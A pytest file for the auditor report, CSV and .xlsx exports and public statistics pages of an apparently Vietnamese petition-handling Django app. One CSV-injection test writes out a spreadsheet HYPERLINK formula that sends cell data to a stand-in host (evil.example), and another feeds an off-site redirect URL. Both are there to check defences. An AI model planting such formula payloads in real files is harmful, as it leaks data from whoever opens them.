"""Auditor pages: the report, its charts, CSV and .xlsx, drill-down, closing a
period, verified history; and the public /stats/ page."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
import time_machine
from django.utils import timezone

from workflow import services, sweeps
from workflow.models import Channel, ClosedPeriod
from workflow.reports import columns, stats

MONDAY = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
MARCH = {"start_on": "2026-03-01", "end_on": "2026-03-31"}
AUDIT_URLS = [
    "/audit/",
    "/audit/report-agency.csv",
    "/audit/report-trend.csv",
    "/audit/report.xlsx",
    "/audit/petitions/?start_on=2026-03-01&end_on=2026-03-31&measure=received",
]


@pytest.fixture
def march(submit, routed_to_a, handler_a):
    """One petition answered on time, one answered after its deadline was breached."""
    with time_machine.travel(MONDAY, tick=False):
        quick, late = submit(title="Nhanh"), submit(title="Muộn")
        for petition in (quick, late):
            services.accept_petition(petition_id=petition.pk, actor=handler_a)
    with time_machine.travel(MONDAY + timedelta(days=3), tick=False):
        services.answer_petition(petition_id=quick.pk, actor=handler_a, text="Xong")
    sweeps.sweep(now=MONDAY + timedelta(days=25))
    with time_machine.travel(MONDAY + timedelta(days=26), tick=False):
        services.answer_petition(petition_id=late.pk, actor=handler_a, text="Muộn")
    return quick, late


@pytest.mark.parametrize("path", AUDIT_URLS)
def test_anonymous_visitor_is_sent_to_login(client, path):
    assert client.get(path)["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("path", AUDIT_URLS)
@pytest.mark.parametrize("name", ["handler_a", "supervisor_a", "coordinator"])
def test_staff_who_are_not_auditors_get_404(request, db, staff_client, name, path):
    assert staff_client(request.getfixturevalue(name)).get(path).status_code == 404


def test_handler_cannot_open_the_audit_history_of_a_case(
    march, handler_a, staff_client
):
    quick, _late = march
    response = staff_client(handler_a).get(f"/audit/petitions/{quick.tracking_code}/")
    assert response.status_code == 404


def test_report_shows_the_on_time_rate_like_the_seed_article(
    march, auditor, staff_client
):
    page = staff_client(auditor).get("/audit/", MARCH).content.decode()
    assert "Agency so-tnmt-lang-son" in page
    assert "50,00\u00a0%" in page  # one of two answered on time
    assert '<svg xmlns="http://www.w3.org/2000/svg"' in page
    assert 'role="img"' in page and "<desc" in page


def test_report_in_english_uses_a_decimal_point(march, auditor, staff_client):
    client = staff_client(auditor)
    client.cookies["django_language"] = "en"
    page = client.get("/audit/", MARCH, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "50.00\u00a0%" in page


def test_report_defaults_to_the_last_90_days(march, auditor, staff_client):
    with time_machine.travel(MONDAY + timedelta(days=30), tick=False):
        page = staff_client(auditor).get("/audit/").content.decode()
    # 1 April 2026 and the 89 days before it: 90 days, today included.
    assert "ngày 02/01/2026 đến 24:00 ngày 01/04/2026" in page


def test_an_impossible_period_is_explained(auditor, staff_client):
    response = staff_client(auditor).get(
        "/audit/", {"start_on": "2026-04-01", "end_on": "2026-03-01"}
    )
    assert "Ngày bắt đầu phải trước ngày kết thúc." in response.content.decode()


@pytest.mark.parametrize("url", AUDIT_URLS)
def test_a_period_to_the_calendars_last_day_is_refused_not_a_500(
    auditor, staff_client, url
):
    # 31/12/9999 has no next day for the period's end: a day past 9998 is refused.
    path, _, query = url.partition("?")
    measure = {"measure": "received"} if "measure" in query else {}
    response = staff_client(auditor).get(
        path, {"start_on": "9999-12-01", "end_on": "9999-12-31", **measure}
    )

    assert response.status_code in (200, 404)


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_csv_is_utf8_with_bom_and_names_the_period(march, auditor, staff_client):
    response = staff_client(auditor).get("/audit/report-agency.csv", MARCH)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        'filename="pakn-agency-2026-03-01_2026-03-31.csv"'
        in response["Content-Disposition"]
    )
    header, row, total = read_csv(response)
    assert header[:3] == [
        "Đơn vị",
        "(1) Kỳ trước chuyển sang",
        "(2) Tiếp nhận trong kỳ",
    ]
    # Carried over, received, reopened, moved in and out, to handle, not accepted,
    # on time, late, rate.
    assert row[:11] == [
        "Agency so-tnmt-lang-son",
        "0",
        "2",
        "0",
        "0",
        "0",
        "2",
        "0",
        "1",
        "1",
        "50.00",
    ]
    assert total[0] == "Tổng cộng" and total[10] == "50.00"


def test_trend_csv_lists_every_week(march, auditor, staff_client):
    rows = read_csv(staff_client(auditor).get("/audit/report-trend.csv", MARCH))
    assert rows[1][0] == "2026-W09" and len(rows) == 7
    # The one breach, in the week the sweep recorded it (Friday 27 March).
    assert [r[0] for r in rows[1:] if r[2] != "0"] == ["2026-W13"]


def test_drill_down_lists_the_petitions_and_exports_them(march, auditor, staff_client):
    quick, late = march
    query = {
        **MARCH,
        "measure": "resolved_on_time",
        "by": "agency",
        "key": str(quick.agency_id),
    }
    client = staff_client(auditor)
    page = client.get("/audit/petitions/", query).content.decode()
    assert quick.tracking_code in page and late.tracking_code not in page
    rows = read_csv(client.get("/audit/petitions/", {**query, "format": "csv"}))
    assert [r[0] for r in rows[1:]] == [quick.tracking_code]


def test_drill_down_with_a_bad_query_is_404(auditor, staff_client):
    client = staff_client(auditor)
    assert client.get("/audit/petitions/?measure=x").status_code == 404
    period = "start_on=2026-03-01&end_on=2026-03-31&measure=received"
    for by in ("agency", "province", "category"):
        for key in ("²", "٢٠", "99999999999999999999", "-1"):
            found = client.get(f"/audit/petitions/?{period}&by={by}&key={key}")
            assert found.status_code == 404, (by, key)


def test_case_history_shows_that_the_chain_is_intact(march, auditor, staff_client):
    _quick, late = march
    page = staff_client(auditor).get(f"/audit/petitions/{late.tracking_code}/")
    text = page.content.decode()
    assert "Toàn vẹn" in text
    assert "Quá hạn" in text  # the breach the sweep recorded is in the history
    # The texts it shows may hold personal data: the auditor's read is recorded.
    from workflow.privacy.models import PersonalDataRead

    read = PersonalDataRead.objects.get(petition=late)
    assert (read.user, read.what) == (auditor.user, "case")


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
    submit, routed_to_a, auditor, staff_client, agency_a
):
    agency_a.name = "@SUM(1+1) Sở Tài nguyên"
    agency_a.save()
    titles = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+84 giá trị",
        "-2+3 đường Lê Lợi",
        "Đường liên xã xuống cấp",
    ]
    for title in titles:
        submit(title=title)
    day = timezone.localdate()
    today = {"start_on": str(day - timedelta(days=1)), "end_on": str(day)}
    client = staff_client(auditor)

    rows = read_csv(
        client.get(
            "/audit/petitions/", {**today, "measure": "received", "format": "csv"}
        )
    )
    by_agency = read_csv(client.get("/audit/report-agency.csv", today))

    written = {row[2] for row in rows[1:]}
    # The OWASP rule: a leading apostrophe, the text otherwise as it was typed.
    assert written == {"'" + t for t in titles[:3]} | {titles[3]}
    assert all(row[4] == "'@SUM(1+1) Sở Tài nguyên" for row in rows[1:])
    assert by_agency[1][0] == "'@SUM(1+1) Sở Tài nguyên"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_the_apostrophe(start):
    from workflow.csv_export import safe_cell

    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Sở Tài chính") == "Sở Tài chính"
    assert safe_cell(-3) == -3  # our own numbers are not text


def test_the_audit_case_shows_the_text_the_answer_and_the_way_back(
    march, auditor, staff_client
):
    quick, _late = march
    client = staff_client(auditor)
    listing = (
        "/audit/petitions/?start_on=2026-03-01&end_on=2026-03-31"
        "&measure=resolved_on_time"
    )
    page = client.get(listing).content.decode()
    # The drill-down links each case with the way back to this very list.
    link = f"/audit/petitions/{quick.tracking_code}/?next="
    assert link in page
    back = "/audit/petitions/%3Fmeasure%3Dresolved_on_time%26page%3D1"
    response = client.get(link + back)
    text = response.content.decode()
    assert quick.content in text
    # The answer is on the page, and in the history row of the answer step.
    assert 'id="answer-text">Xong<' in text
    assert "<summary>Nội dung trả lời</summary>Xong" in text
    back_link = 'href="/audit/petitions/?measure=resolved_on_time&amp;page=1" id="back"'
    assert back_link in text
    # A link elsewhere is not followed back; the report is.
    away = client.get(link + "https://evil.example/").content.decode()
    assert 'href="/audit/" id="back"' in away
    assert "hết ngày" in text  # the case deadline as a last day


def test_chart_weeks_read_as_weeks_and_dates_not_iso_codes(
    march, auditor, staff_client
):
    page = staff_client(auditor).get("/audit/", MARCH).content.decode()
    chart = page[page.index('id="chart-trend-title"') :].split("</svg>")[0]
    # The axis names each week's Monday; each column's title says the week.
    assert ">23/02<" in chart and "Tuần 9 (từ 23/02/2026)" in chart
    assert "W09" not in chart and "W10" not in chart


def test_xlsx_is_laid_out_like_the_report_form(march, auditor, staff_client):
    response = staff_client(auditor).get("/audit/report.xlsx", MARCH)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "pakn-bao-cao-2026-03-01_2026-03-31.xlsx" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Đơn vị",
        "Tỉnh, thành phố",
        "Lĩnh vực",
        "Kênh tiếp nhận",
        "Giải thích",
    ]
    sheet = book["Đơn vị"]
    assert sheet["A1"].value.startswith("BÁO CÁO TÌNH HÌNH TIẾP NHẬN")
    assert sheet["A3"].value == "Kỳ báo cáo: từ ngày 01/03/2026 đến ngày 31/03/2026"
    # Grouped headings over numbered columns, then one row per agency.
    assert sheet["C6"].value == "Số phải giải quyết trong kỳ"
    assert [sheet.cell(8, c).value for c in (1, 2, 3, 4)] == ["A", "B", "(1)", "(2)"]
    row = [cell.value for cell in sheet[9]]
    assert row[:4] == [1, "Agency so-tnmt-lang-son", 0, 2]
    # Numbers as numbers, the rate as a percentage, days with one decimal.
    rate = sheet.cell(9, 12)
    assert rate.value == 0.5 and rate.number_format == "0.00%"
    assert sheet.cell(9, 13).number_format == "0.0"
    assert sheet.cell(10, 2).value == "Tổng cộng" and sheet.cell(10, 4).value == 2
    definitions = [r[1] for r in book["Giải thích"].iter_rows(values_only=True)]
    assert "Tỷ lệ đúng hạn" in definitions


def test_an_admin_closes_the_period_and_the_report_says_so(
    march, admin_user, auditor, staff_client, django_capture_on_commit_callbacks
):
    client = staff_client(auditor)
    with time_machine.travel(MONDAY + timedelta(days=40), tick=False):
        page = client.get("/audit/", MARCH).content.decode()
        assert "Chốt số liệu kỳ này" not in page  # only an admin closes
        assert client.post("/audit/periods/close/", MARCH).status_code == 404
        admin = staff_client(admin_user)
        assert "Chốt số liệu kỳ này" in admin.get("/audit/", MARCH).content.decode()
        with django_capture_on_commit_callbacks(execute=True):
            response = admin.post("/audit/periods/close/", MARCH)
        assert response.status_code == 302
        page = admin.get(response["Location"]).content.decode()
    closed = ClosedPeriod.objects.get()
    assert (closed.start_on, closed.end_on, closed.closed_by) == (
        date(2026, 3, 1),
        date(2026, 3, 31),
        admin_user,
    )
    assert "Số liệu đã chốt lúc" in page and "Chốt số liệu kỳ này" not in page


def test_pages_carry_no_inline_style_or_script(march, auditor, staff_client, client):
    pages = [
        staff_client(auditor).get("/audit/", MARCH),
        client.get("/stats/"),
    ]
    for response in pages:
        page = response.content.decode()
        # The Content-Security-Policy allows neither.
        assert " style=" not in page and "<style" not in page
        assert "<script>" not in page and "onclick" not in page


def test_the_report_prints_the_definition_of_every_column(march, auditor, staff_client):
    page = staff_client(auditor).get("/audit/", MARCH).content.decode()
    for column in columns.COLUMNS:
        assert f"({column.number}) {column.label}" in page
        assert str(column.definition) in page


# --- /stats/ ------------------------------------------------------------------------


def test_stats_are_public_and_carry_no_personal_data(march, client):
    with time_machine.travel(datetime(2026, 4, 10, 3, 0, tzinfo=UTC), tick=False):
        response = client.get("/stats/", {"month": "2026-03"})
    assert response.status_code == 200
    page = response.content.decode()
    quick, late = march
    for private in (
        quick.tracking_code,
        quick.submitter_name,
        quick.email,
        quick.title,
    ):
        assert private not in page
    assert "Agency so-tnmt-lang-son" in page and "50,00\u00a0%" in page
    assert '<svg xmlns="http://www.w3.org/2000/svg"' in page
    for column in stats.COLUMNS:
        assert str(column.definition) in page


def test_stats_of_one_province_and_agency_per_month(march, client):
    quick, _late = march
    with time_machine.travel(datetime(2026, 4, 10, 3, 0, tzinfo=UTC), tick=False):
        months = stats.monthly(
            timezone.now(), dimension="agency", key=str(quick.agency_id)
        )
        province = client.get(f"/stats/province/{quick.province_id}/")
        agency = client.get(f"/stats/agency/{quick.agency_id}/")
    march_row = next(m for m in months if m.first == date(2026, 3, 1))
    assert (march_row.figures.received, march_row.figures.resolved) == (2, 2)
    assert months[-1].is_current and months[-1].first == date(2026, 4, 1)
    assert len(months) == 13
    assert province.status_code == 200 and agency.status_code == 200
    assert "Agency so-tnmt-lang-son" in agency.content.decode()


@pytest.mark.parametrize(
    "path",
    [
        "/stats/agency/999999/",
        "/stats/commune/1/",
        # "²".isdigit() is True but int() fails; "٢٠" int()s to 20: neither names
        # a unit (workflow.codes).
        "/stats/province/²/",
        "/stats/agency/²/",
        "/stats/province/٢٠/",
        "/stats/agency/99999999999999999999/",
    ],
)
def test_stats_of_an_unknown_unit_is_404(db, client, path):
    assert client.get(path).status_code == 404


def test_a_name_that_looks_like_a_formula_stays_text_in_the_xlsx(
    march, agency_a, auditor, staff_client
):
    agency_a.name = '=HYPERLINK("http://example.com","x")'
    agency_a.save()
    response = staff_client(auditor).get("/audit/report.xlsx", MARCH)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Đơn vị"]
    cell = sheet.cell(9, 2)
    assert cell.value == agency_a.name and cell.data_type == "s"


def test_stats_break_each_month_down_by_channel(march, client):
    quick, _late = march
    with time_machine.travel(datetime(2026, 4, 10, 3, 0, tzinfo=UTC), tick=False):
        page = client.get("/stats/", {"month": "2026-03"}).content.decode()
        channel = client.get(f"/stats/channel/{quick.channel}/")
        unknown = client.get("/stats/channel/pigeon/")
    label = str(Channel(quick.channel).label)
    assert "Kênh tiếp nhận" in page and f"/stats/channel/{quick.channel}/" in page
    assert channel.status_code == 200 and label in channel.content.decode()
    assert unknown.status_code == 404
